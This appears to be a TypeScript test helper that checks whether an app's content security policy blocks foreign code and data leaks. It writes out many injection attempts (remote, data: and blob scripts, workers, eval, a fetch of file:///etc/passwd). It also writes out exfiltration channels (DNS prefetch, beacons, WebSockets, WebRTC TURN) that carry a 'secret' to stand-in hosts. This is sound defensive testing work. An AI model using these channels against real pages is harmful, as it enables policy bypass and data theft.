// What somebody else's code in the page would try: to run more of it, and to carry a text out. Each function runs in the page.
declare global {
  interface Window {
    /** Directives of the policy that have refused something. */
    refusals?: Set<string>;
    /** What ran all the same. */
    ran?: string[];
  }
}

/** Runs in the page. */
export function watchRefusals(): void {
  const refusals = new Set<string>();
  window.refusals = refusals;
  window.ran = [];
  document.addEventListener("securitypolicyviolation", (event) => refusals.add(event.effectiveDirective));
}

/** Runs in the page: each kind of code and content that there is, from elsewhere and from inside a text. */
export async function runForeignCode(port: number): Promise<void> {
  const ran = window.ran ?? [];
  const there = `http://127.0.0.1:${String(port)}`;
  const inAddress = "data:text/javascript,window.ran.push('data')";
  const add = (tag: string, attributes: Readonly<Record<string, string>>, text = ""): void => {
    const element = document.createElement(tag);
    // Where types are asked for, setting an attribute throws; that is a refusal too.
    try {
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
    } catch {
      return;
    }
    document.body.append(element);
  };
  const attempt = async (what: string, action: () => unknown): Promise<void> => {
    try {
      await action();
      ran.push(what);
    } catch {
      // As it should.
    }
  };
  const fromBlob = URL.createObjectURL(new Blob(["window.ran.push('blob'); postMessage(1)"], { type: "text/javascript" }));
  for (const src of [`${there}/x.js`, inAddress, fromBlob]) {
    await new Promise((resolve) => {
      const script = document.createElement("script");
      script.onerror = resolve;
      script.onload = resolve;
      try {
        script.src = src;
      } catch {
        resolve(undefined);
      }
      document.head.append(script);
    });
  }
  add("script", {}, "window.ran.push('inline')");
  add("script", { type: "speculationrules" }, JSON.stringify({ prefetch: [{ source: "list", urls: [`${there}/speculation`] }] }));
  add("img", { src: `${there}/x.png?secret-in-an-image.example`, onerror: "window.ran.push('handler')" });
  add("p", { style: "color: red" });
  add("style", {}, `@import '${there}/x.css'; body { display: none } @font-face { font-family: x; src: url(${there}/x.woff2) }`);
  add("link", { rel: "stylesheet", href: `${there}/x.css` });
  add("link", { rel: "manifest", href: `${there}/manifest.json` });
  add("link", { rel: "prefetch", href: `${there}/prefetch` });
  add("link", { rel: "modulepreload", href: `${there}/module.js` });
  add("iframe", { src: `${there}/frame` });
  add("iframe", { src: "data:text/html,<script>parent.ran.push('frame')</script>" });
  add("iframe", { srcdoc: "<script>parent.ran.push('srcdoc')</script>" });
  add("object", { data: `${there}/object.pdf` });
  add("embed", { src: `${there}/embed.pdf`, type: "application/pdf" });
  add("video", { src: `${there}/video` });
  add("audio", { src: `${there}/audio` });
  add("webview", { src: `${there}/webview` });
  add("base", { href: `${there}/` });
  const font = new FontFace("x", `url(${there}/font.woff2)`);
  await attempt("font", () => font.load());
  await attempt("module", () => import(`${there}/module.js`));
  await attempt("module in an address", () => import(inAddress));
  await attempt("worker", () => new Worker(fromBlob));
  await attempt("worker in an address", () => new Worker("data:text/javascript,postMessage(1)"));
  await attempt("shared worker", () => new SharedWorker("data:text/javascript,1"));
  await attempt("service worker", () => navigator.serviceWorker.register(`${there}/service.js`));
  await attempt("own service worker", () => navigator.serviceWorker.register("app://stamp/service.js"));
  await attempt("request", () => fetch(`${there}/fetch`));
  await attempt("file", () => fetch("file:///etc/passwd"));
  for (const [what, begin] of [
    ["markup", () => (document.createElement("p").innerHTML = "<img>")],
    ["document", () => new DOMParser().parseFromString("<p>", "text/html")],
    ["range", () => document.createRange().createContextualFragment("<p>")],
  ] as const) await attempt(what, begin);
  const form = document.createElement("form");
  form.method = "post";
  form.action = `${there}/form`;
  document.body.append(form);
  form.submit();
  // Outside of this call, for which the tests' debugger has switched the policy off.
  await new Promise<void>((resolve) => {
    setTimeout(() => {
      for (const [what, begin] of [
        ["eval", () => { (0, eval)("1"); }],
        ["function", () => Reflect.construct(Function, ["return 1"])],
      ] as const) {
        try {
          begin();
          ran.push(what);
        } catch {
          // As it should.
        }
      }
      resolve();
    });
  });
  if (getComputedStyle(document.body).display === "none") ran.push("style");
  if (document.baseURI !== "app://stamp/index.html") ran.push("base");
}

/** Runs in the page: ways out that the policy does not know. Resolves when each has been tried to its end. */
export async function carryOut({ port, udpPort }: { readonly port: number; readonly udpPort: number }): Promise<void> {
  const ran = window.ran ?? [];
  const there = `http://127.0.0.1:${String(port)}`;
  for (const [rel, href] of [
    ["dns-prefetch", "//secret-in-a-name.example"],
    ["preconnect", "https://secret-in-a-connection.example"],
    ["preconnect", there],
    ["prerender", `${there}/prerender`],
  ] as const) document.head.append(Object.assign(document.createElement("link"), { rel, href }));
  navigator.sendBeacon(`${there}/beacon`, "secret");
  const source = new EventSource(`${there}/events`);
  const socket = new WebSocket(`ws://127.0.0.1:${String(port)}/`);
  await Promise.all([source, socket].map((way) => new Promise<void>((resolve) => {
    way.addEventListener("error", () => { resolve(); });
    way.addEventListener("open", () => { ran.push("a stream"); resolve(); });
  })));
  source.close();
  const iceServers = [
    { urls: `stun:127.0.0.1:${String(udpPort)}` },
    { urls: `turn:127.0.0.1:${String(udpPort)}`, username: "secret", credential: "secret" },
    { urls: `turn:127.0.0.1:${String(port)}?transport=tcp`, username: "secret", credential: "secret" },
  ];
  const peer = new RTCPeerConnection({ iceServers });
  const gathered = new Promise<void>((resolve) => {
    peer.addEventListener("icegatheringstatechange", () => { if (peer.iceGatheringState === "complete") resolve(); });
  });
  peer.createDataChannel("secret");
  await peer.setLocalDescription(await peer.createOffer());
  await gathered;
  peer.close();
}
